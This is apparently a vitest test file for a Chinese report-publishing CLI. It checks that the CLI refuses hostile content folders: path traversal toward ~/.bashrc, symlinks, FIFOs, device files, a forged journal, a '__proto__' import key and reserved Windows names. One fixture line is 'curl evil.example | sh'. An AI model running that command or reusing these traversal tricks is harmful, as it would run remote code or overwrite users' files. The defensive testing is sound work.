import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { dirname, join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { entryFile } from './fixtures/hostile/case.ts';
import { duizhao } from './support/command.ts';
import { writeContent } from './support/hostile-content.ts';
import { temporaryFolder } from './support/temporary.ts';

/** A number of a process that no system gives. */
const NOBODY = 999_999_999;
const REPORT = '2024年度自查报告\n一、存在的问题\n一是账目不清。没有公开。\n二是库房乱。没有货架。';

/** A content folder that somebody sent, and a folder of the user's beside it, whose files are watched. */
async function sentFolder() {
  const folder = await temporaryFolder();
  const content = join(folder, 'content');
  const home = join(folder, 'home');
  await writeContent(content, new Map([['p01.mdx', entryFile()]]));
  await writeFiles(home, {
    '.bashrc': 'alias ll=ls\n',
    'reports/2024.mdx': entryFile(),
    'reports/site.yaml': 'name: 自查报告\norganisation: 别的办公室\n',
  });
  await writeFiles(folder, { '2024.txt': REPORT });
  return {
    ...{ content, home },
    document: join(folder, '2024.txt'),
    out: join(folder, 'dist'),
    /** Every file of the user's with its digest. */
    digests: () => digestsBelow(home),
  };
}

async function writeFiles(folder: string, files: Record<string, string>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
  }
}

async function digestsBelow(folder: string): Promise<Record<string, string>> {
  const items = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = items
    .filter((item) => item.isFile())
    .map(({ parentPath, name }) => join(parentPath, name));
  const digests = files.map(async (file) => {
    const digest = createHash('sha256')
      .update(await readFile(file))
      .digest('hex');
    return [relative(folder, file), digest] as const;
  });
  return Object.fromEntries((await Promise.all(digests)).toSorted());
}

/** The paths and rules that a command told. */
const told = (text: string): string[] =>
  [...text.matchAll(/^(.+):\d+:\d+ {2}错误 {2}.*[。？] {2}\[([a-z0-9-]+)\]$/gmu)]
    .map(([, path, rule]) => `${path ?? ''} ${rule ?? ''}`)
    .toSorted();

describe('what looks like a write that was broken off', () => {
  it.each([
    ['by ..', (home: string, content: string) => relative(content, join(home, '.bashrc'))],
    ['by an absolute path', (home: string) => join(home, '.bashrc')],
    ['by a link', () => 'link/.bashrc'],
  ])('moves and removes nothing elsewhere %s: it is told, and left', async (_, pathOf) => {
    const { content, home, document, out, digests } = await sentFolder();
    const path = pathOf(home, content);
    const digest = createHash('sha256').update('alias ll=ls\n').digest('hex');
    const staging = `.write-${NOBODY}-abcdef`;
    const journal = { write: [[path, digest]], existing: [path], folders: [dirname(path)] };
    await writeFiles(join(content, staging), {
      'journal.json': JSON.stringify(journal),
      'old/link/.bashrc': 'curl evil.example | sh\n',
    });
    if (process.platform !== 'win32') await symlink(home, join(content, 'link'));
    const [mine, theirs] = [await digests(), await digestsBelow(content)];
    for (const args of [['check'], ['build', '--out', out], ['import', document, '--force']]) {
      const { code, stderr } = await duizhao(...args, '--content', content);
      expect(code, args[0]).toBe(1);
      expect(stderr.trimEnd()).toMatch(
        /^\S+ 里有一次没有完成的写入（\.write-\d+-abcdef），.*再试。$/u,
      );
    }
    expect(await digests()).toEqual(mine);
    expect(await digestsBelow(content)).toEqual(theirs);
  });
});

describe('the record of an import', () => {
  it('that names files elsewhere is told, and has none of them read, written or removed', async () => {
    const { content, home, document, digests } = await sentFolder();
    const [review, entry] = ['reviews/2024.mdx', 'problems/2024/p01.mdx'];
    const files = {
      [review]: await readFile(join(content, review), 'utf8'),
      [entry]: await readFile(join(content, entry), 'utf8'),
      [relative(content, join(home, 'reports/2024.mdx'))]: entryFile(),
      [join(home, 'reports/2024.mdx')]: entryFile(),
      'site.yaml': await readFile(join(content, 'site.yaml'), 'utf8'),
    };
    const given = { '2024/p': '__proto__' };
    await writeFiles(content, { 'imports/2024.json': JSON.stringify({ given, files }) });
    const [mine, theirs] = [await digests(), await digestsBelow(content)];
    const dry = await duizhao('import', document, '--dry-run', '--json', '--content', content);
    expect(dry.stderr).toContain('imports/2024.json 不是本程序写下的样子，没有采用');
    const forced = await duizhao('import', document, '--force', '--content', content);
    expect(forced.code).toBe(1);
    expect(forced.stderr).toContain('imports/2024.json 不是本程序写下的样子，没有采用');
    expect(forced.stderr).toContain('人工改过');
    expect(await digests()).toEqual(mine);
    expect(await digestsBelow(content)).toEqual(theirs);
  });
});

describe.skipIf(process.platform === 'win32')('links, pipes, devices and names', () => {
  it('are told all at once, and none is opened', async () => {
    const { content, home, out, digests } = await sentFolder();
    const at = (path: string) => join(content, path);
    await mkdir(at('pages'));
    await mkdir(at('imports'));
    await symlink(join(home, 'reports/2024.mdx'), at('problems/2024/p02.mdx'));
    await symlink('/dev/zero', at('problems/2024/p03.mdx'));
    await symlink(join(home, 'reports'), at('measures'));
    await symlink(join(home, 'reports/2024.mdx'), at('pages/x.mdx'));
    await symlink(home, at('attachments'));
    for (const path of ['problems/2024/p04.mdx', 'pages/y.mdx', 'imports/2024.json']) {
      execFileSync('mkfifo', [at(path)]);
    }
    execFileSync('mkfifo', [at('themes.yaml')]);
    await writeFiles(content, {
      'problems/2024/con.mdx': entryFile(),
      'problems/2024/p9..mdx': entryFile(),
      'pages/aux.x.mdx': entryFile(),
    });
    const expected = [
      'attachments link-outside',
      'imports/2024.json special-file',
      'measures link-outside',
      'pages/aux.x.mdx name-reserved',
      'pages/x.mdx link-outside',
      'pages/y.mdx special-file',
      'problems/2024/con.mdx name-reserved',
      'problems/2024/p02.mdx link-outside',
      'problems/2024/p03.mdx link-outside',
      'problems/2024/p04.mdx special-file',
      'problems/2024/p9..mdx name-ending',
      'themes.yaml special-file',
    ];
    const mine = await digests();
    const check = await duizhao('check', '--content', content);
    expect(told(check.stdout)).toEqual(expected);
    const build = await duizhao('build', '--content', content, '--out', out);
    expect(told(build.stderr)).toEqual(expected);
    expect([check.code, build.code]).toEqual([1, 1]);
    expect(await digests()).toEqual(mine);
  });

  it('are refused as settings by every command, which does not wait for them either', async () => {
    const { content, home } = await sentFolder();
    const linked = join(home, 'linked');
    await mkdir(linked);
    await symlink('../reports/site.yaml', join(linked, 'site.yaml'));
    const piped = join(home, 'piped');
    await mkdir(piped);
    execFileSync('mkfifo', [join(piped, 'site.yaml')]);
    expect(told((await duizhao('check', '--content', linked)).stdout)).toEqual([
      'site.yaml link-outside',
    ]);
    expect(told((await duizhao('check', '--content', piped)).stdout)).toEqual([
      'site.yaml special-file',
    ]);
    expect((await duizhao('check', '--content', content)).code).toBe(0);
  });

  it('have nothing written through them by an import', async () => {
    const { content, home, document, digests } = await sentFolder();
    await mkdir(join(home, 'empty'));
    await symlink(join(home, 'empty'), join(content, 'imports'));
    const mine = await digests();
    const { code, stderr } = await duizhao(
      'import',
      document,
      '--review',
      '2024-2',
      '--content',
      content,
    );
    expect(code).toBe(1);
    expect(stderr).toContain('是链接');
    expect(await digests()).toEqual(mine);
  });

  it('are refused as documents: a pipe or a device is not waited for', async () => {
    const { content, home } = await sentFolder();
    const pipe = join(home, '2024.txt');
    execFileSync('mkfifo', [pipe]);
    for (const file of [pipe, '/dev/zero']) {
      const { code, stderr } = await duizhao('import', file, '--content', content);
      expect(code).toBe(1);
      expect(stderr).toContain(`${file} 不是普通文件（是管道、套接字或设备），没有打开。`);
    }
  });
});

it('a review is not imported under a name that some systems cannot hold or tell from another', async () => {
  const { content, document } = await sentFolder();
  await writeFiles(content, { 'reviews/a24.mdx': '---\ntitle: 报告\nyear: 2024\n---\n' });
  const importAs = (id: string) =>
    duizhao('import', document, '--review', id, '--content', content);
  const device = await importAs('con');
  expect(device.code).toBe(2);
  expect(device.stderr).toContain('--review con: 这个名称是 Windows 留给设备的');
  const before = await digestsBelow(content);
  const same = await importAs('A24');
  expect(same.code).toBe(1);
  expect(same.stderr).toContain('已经有报告“a24”，它和“A24”只有大小写不同');
  expect(await digestsBelow(content)).toEqual(before);
});

it.skipIf(process.platform !== 'linux')(
  'names that Windows and macOS do not tell apart are told, each with the other',
  async () => {
    const { content } = await sentFolder();
    await writeFiles(content, {
      'problems/2024/P01.mdx': entryFile(),
      'pages/About.mdx': entryFile(),
      'pages/about.mdx': entryFile(),
    });
    const { code, stdout } = await duizhao('check', '--content', content);
    expect(code).toBe(1);
    expect(told(stdout)).toEqual(
      ['pages/About', 'pages/about', 'problems/2024/P01', 'problems/2024/p01'].map(
        (path) => `${path}.mdx duplicate-id`,
      ),
    );
    expect(stdout).toMatch(/problems\/2024\/P01\.mdx.*另一处在 problems\/2024\/p01\.mdx（/u);
  },
);
